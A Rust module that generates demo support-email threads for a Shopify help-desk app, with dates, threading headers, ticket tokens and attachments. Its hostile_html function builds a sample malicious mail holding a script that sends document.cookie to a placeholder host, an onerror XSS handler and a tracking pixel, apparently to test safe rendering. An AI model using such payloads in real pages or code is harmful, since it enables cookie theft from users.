//! One demo conversation: its scenario filled in for a customer and an order, timed, and
//! written as mails with correct Message-ID, In-Reply-To, References and ticket token.

use rand::{Rng, RngCore};
use shopdesk_store::OrderRecord;

use super::assets::{damage_photo_png, invoice_pdf};
use super::compose::{compose, compose_broken, Attachment, DemoMail, Person};
use super::scenarios::{Asset, Body, By, Link, Opener, Scenario, Step};
use crate::thread::base_ticket_token;
use crate::MailError;

const SHOPIFY_MAILER: &str = "mailer@shopify.com";
const MONTHS: [&str; 12] = [
    "January",
    "February",
    "March",
    "April",
    "May",
    "June",
    "July",
    "August",
    "September",
    "October",
    "November",
    "December",
];

pub(super) struct DemoCustomer {
    pub person: Person,
    pub first_name: String,
    pub orders: Vec<DemoOrder>,
}

pub(super) struct DemoOrder {
    /// "#1003"
    pub name: String,
    /// Line item names, in order.
    pub products: Vec<String>,
    /// "89.00 EUR"
    pub total: String,
    /// Invoice lines: "2 x Hand grinder  49.00 EUR".
    pub lines: Vec<String>,
}

impl DemoOrder {
    pub(super) fn from_record(order: &OrderRecord) -> DemoOrder {
        let money = |m: &shopdesk_money::Money| format!("{} {}", m.amount_string(), m.currency);
        DemoOrder {
            name: order.name.clone(),
            products: order.line_items.iter().map(|i| i.name.clone()).collect(),
            total: money(&order.total),
            lines: order
                .line_items
                .iter()
                .map(|item| {
                    format!(
                        "{} x {}  {}",
                        item.quantity,
                        item.name,
                        money(&item.unit_price)
                    )
                })
                .collect(),
        }
    }

    /// "1003" for "#1003": the way customers often write it ("order 1003").
    fn number(&self) -> &str {
        self.name.trim_start_matches('#')
    }
}

pub(super) struct ThreadWriter<'a> {
    pub scenario: &'a Scenario,
    pub shop: &'a Person,
    pub shop_name: &'a str,
    pub customer: &'a DemoCustomer,
    pub order: &'a DemoOrder,
    /// The line item the conversation is about.
    pub product: &'a str,
    pub stranger: &'a Person,
    /// Unix seconds; every mail is dated before it.
    pub epoch: i64,
    pub span_seconds: i64,
}

impl ThreadWriter<'_> {
    /// The thread's mails with their dates (Unix seconds), oldest first.
    pub(super) fn write(&self, rng: &mut impl RngCore) -> Result<Vec<(i64, Vec<u8>)>, MailError> {
        let Scenario { opener, steps, .. } = *self.scenario;
        let dates = self.dates(steps, rng);
        let subject = self.fill(self.scenario.subject, "");
        let tracking = format!(
            "DHL 0034 {:04} {:04}",
            rng.random_range(0..10_000),
            rng.random_range(0..10_000)
        );
        let mut ids: Vec<String> = Vec::new();
        let mut token = String::new();
        let mut thread_subject = subject;
        let mut mails = Vec::with_capacity(steps.len());

        for (index, (step, date)) in steps.iter().zip(dates).enumerate() {
            let (from, to) = self.parties(step.by);
            let text = self.fill(step.text, &tracking);
            let mut mail = DemoMail {
                from: from.clone(),
                to: to.clone(),
                reply_to: None,
                subject: thread_subject.clone(),
                message_id: format!("{:016x}@{}", rng.next_u64(), domain_of(&from.address)),
                in_reply_to: None,
                references: Vec::new(),
                date,
                html: match step.body {
                    Body::Text => None,
                    Body::TextAndHtml => Some(simple_html(&text)),
                    Body::HostileHtml => Some(hostile_html(&text, rng.next_u64())),
                },
                text,
                attachments: self.attachment(step.asset).into_iter().collect(),
            };
            if index == 0 {
                if opener == Opener::ContactForm {
                    self.as_contact_form(&mut mail);
                    thread_subject = mail.subject.clone();
                }
                token = base_ticket_token(&mail.message_id);
                if opener == Opener::Shop {
                    // The app puts the token in everything it sends.
                    mail.subject = format!("{thread_subject} [{token}]");
                }
            } else {
                mail.subject = format!("Re: {thread_subject} [{token}]");
                if step.link == Link::Headers {
                    mail.in_reply_to = ids.last().cloned();
                    mail.references = ids.clone();
                }
            }
            let raw = if index == 0 && opener == Opener::Broken {
                compose_broken(&mail)
            } else {
                compose(&mail)?
            };
            ids.push(mail.message_id);
            mails.push((date, raw));
        }
        Ok(mails)
    }

    /// Dates for the steps: replies some hours apart, the whole thread inside the span.
    fn dates(&self, steps: &[Step], rng: &mut impl RngCore) -> Vec<i64> {
        let delays: Vec<i64> = steps
            .iter()
            .enumerate()
            .map(|(i, step)| match i {
                0 => 0,
                _ => {
                    let (min, max) = step.delay_hours;
                    i64::from(rng.random_range(min..=max)) * 3600 + rng.random_range(0..3600)
                }
            })
            .collect();
        let total: i64 = delays.iter().sum();
        let slack = (self.span_seconds - total).max(1200);
        let mut at = self.epoch - total - rng.random_range(1200..=slack);
        delays
            .into_iter()
            .map(|delay| {
                at += delay;
                at
            })
            .collect()
    }

    fn parties(&self, by: By) -> (&Person, &Person) {
        let customer = match self.scenario.opener {
            Opener::Stranger => self.stranger,
            _ => &self.customer.person,
        };
        match by {
            By::Customer => (customer, self.shop),
            By::Shop => (self.shop, customer),
        }
    }

    /// Shopify's contact form: sent by Shopify's mailer, the customer in Reply-To.
    fn as_contact_form(&self, mail: &mut DemoMail) {
        let customer = &self.customer.person;
        mail.subject = format!("New customer message on {}", spoken_date(mail.date));
        mail.text = format!(
            "You received a new message from your online store's contact form.\n\n\
             Country Code: DE\nName: {}\nEmail: {}\nPhone Number: \nBody: {}\n",
            customer.name, customer.address, mail.text
        );
        mail.html = Some(simple_html(&mail.text));
        mail.reply_to = Some(customer.clone());
        mail.from = Person {
            name: "Shopify".to_string(),
            address: SHOPIFY_MAILER.to_string(),
        };
        mail.message_id = format!(
            "{}@shopify.com",
            mail.message_id.split('@').next().unwrap_or_default()
        );
    }

    fn attachment(&self, asset: Option<Asset>) -> Option<Attachment> {
        Some(match asset? {
            Asset::DamagePhoto => Attachment {
                content_type: "image/png",
                filename: "photo.png".to_string(),
                bytes: damage_photo_png(48, 36),
            },
            Asset::InvoicePdf => {
                let mut lines = vec![
                    self.shop_name.to_string(),
                    format!("Invoice for order {}", self.order.name),
                    format!("Customer: {}", self.customer.person.name),
                    String::new(),
                ];
                lines.extend(self.order.lines.iter().cloned());
                lines.push(String::new());
                lines.push(format!("Total: {}", self.order.total));
                Attachment {
                    content_type: "application/pdf",
                    filename: format!("invoice-{}.pdf", self.order.number()),
                    bytes: invoice_pdf(&lines),
                }
            }
        })
    }

    fn fill(&self, template: &str, tracking: &str) -> String {
        template
            .replace("{first}", &self.customer.first_name)
            .replace("{name}", &self.customer.person.name)
            .replace("{order}", &self.order.name)
            .replace("{number}", self.order.number())
            .replace("{product}", self.product)
            .replace("{total}", &self.order.total)
            .replace("{shop}", self.shop_name)
            .replace("{agent}", &format!("Mia\n{} support", self.shop_name))
            .replace("{tracking}", tracking)
    }
}

fn domain_of(address: &str) -> String {
    address
        .rsplit_once('@')
        .map(|(_, domain)| domain.to_string())
        .unwrap_or_else(|| "localhost".to_string())
}

/// "November 21, 2026 at 9:14 am", as Shopify writes it in contact-form subjects.
fn spoken_date(unix: i64) -> String {
    match time::OffsetDateTime::from_unix_timestamp(unix) {
        Ok(at) => {
            let hour12 = match at.hour() % 12 {
                0 => 12,
                h => h,
            };
            let half = if at.hour() < 12 { "am" } else { "pm" };
            format!(
                "{} {}, {} at {}:{:02} {half}",
                MONTHS[usize::from(u8::from(at.month())) - 1],
                at.day(),
                at.year(),
                hour12,
                at.minute()
            )
        }
        Err(_) => "an unknown date".to_string(),
    }
}

fn simple_html(text: &str) -> String {
    let paragraphs: Vec<String> = text
        .split("\n\n")
        .map(|p| format!("<p>{}</p>", escape(p).replace('\n', "<br>\n")))
        .collect();
    format!(
        "<!DOCTYPE html><html><body>\n<div style=\"font-family: Helvetica, Arial, sans-serif; \
         font-size: 14px; color: #222\">\n{}\n</div>\n</body></html>\n",
        paragraphs.join("\n")
    )
}

/// A newsletter-style HTML mail with what a hostile or careless sender puts in: a script, an
/// onerror handler, a style loading a remote image and a remote tracking pixel.
fn hostile_html(text: &str, pixel_id: u64) -> String {
    simple_html(text)
        .replace(
            "<html><body>",
            "<html><head><script>fetch('https://collect.example/?c='+document.cookie)</script>\
             </head><body>\n<table style=\"background: url(https://cdn.example/bg.png)\">\
             <tr><td>",
        )
        .replace(
            "</body></html>",
            &format!(
                "</td></tr></table>\n<img src=\"x\" onerror=\"alert(document.domain)\" alt=\"\">\n\
                 <img src=\"https://open.mailtrack.example/pixel.gif?id={pixel_id:x}\" width=\"1\" \
                 height=\"1\" alt=\"\">\n</body></html>"
            ),
        )
}

fn escape(text: &str) -> String {
    text.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}
